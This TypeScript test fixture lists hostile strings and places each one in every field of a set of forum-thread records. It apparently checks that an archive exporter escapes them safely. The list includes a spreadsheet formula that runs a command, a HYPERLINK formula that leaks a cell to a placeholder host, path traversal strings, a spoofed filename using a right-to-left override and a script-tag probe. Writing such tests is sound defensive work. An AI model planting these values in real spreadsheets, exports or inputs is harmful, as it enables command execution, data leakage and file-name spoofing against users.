import type { StoredThread } from '../../../src/model/archive.js'
import { byLabel } from '../../../src/model/columns/post-labels.js'
import { ANNA, keptThread } from '../threads.js'

/** What people type to make a spreadsheet, a reader or a file system do something else than show it. */
export const HOSTILE: readonly string[] = [
  ...[
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '\ufeff=1',
    '\u200b=1',
    '\u202e=1',
    '\0=1',
  ],
  ...['＝1', '＋1', '－1', '＠x', '﹦1', '−1', "=cmd|'/c calc'!A0", '|calc', '=HYPERLINK("https://a.example/?"&A1)'],
  ...["'=1", "''=1", "'hello", "'", '"', '""', '"a', 'a"b', '","', '";"', '=1","', "',", "','"],
  ...[
    'a,b',
    'a;b',
    'a\tb',
    'a\\tb',
    '\\',
    '\\\\N',
    '\\N',
    'a|b',
    ' a',
    'a ',
    ' ',
    '\t',
    '\n',
    '\r',
    '\r\n',
    'a\rb',
    'a\nb',
    'a\r\nb',
    '\r\n\r\n',
  ],
  ...[
    'a\0b',
    '\0',
    'a\u0007b',
    '\u001a',
    'a\u2028b',
    'a\u0085b',
    '\u202egnp.exe',
    '\u2066x',
    'שלום',
    '陳太太',
    '👩‍👩‍👧',
    'e\u0301',
    'é',
  ],
  ...[
    'NULL',
    'null',
    'NaN',
    'NA',
    'true',
    '1e5',
    '007',
    '2024-01-01',
    '#N/A',
    '../..',
    'CON',
    'a/b:c*?"<>|.',
    '%2e%2e%2f',
    '.',
    '..',
  ],
  ...['漢'.repeat(100), 'x'.repeat(300), '<script>alert(1)</script>', '{"a":1}', '[]', '--', '/*', '# x', ''],
]

const HALF = 'half \ud800 of a pair'

/** What UTF-8 can hold: half of a surrogate pair has no bytes. */
export const inUtf8 = (text: string): string => Buffer.from(text).toString()

/** Each hostile text as body, heading, name, slug, title, group, name and address of a file: one thread, and a group, a text. */
export const hostileThreads: readonly StoredThread[] = [...HOSTILE, HALF].map((words, at) => {
  const id = String(at + 1)
  const group = { id, slug: words || 'none', name: words, url: `https://community.example/groups/${id}/` }
  const opening = {
    ...{ id, html: `<p>${words}</p>`, text: words, heading: words, ...byLabel(() => words) },
    author: { ...ANNA, name: words, slug: words },
    attachments: [{ kind: 'document' as const, url: `https://community.example/${words}`, name: words }],
  }
  const reply = { id: `r${id}`, parentId: id, text: words, when: { from: null, to: null } }
  return keptThread({ thread: { id, title: words, group }, posts: [opening, reply] })
})
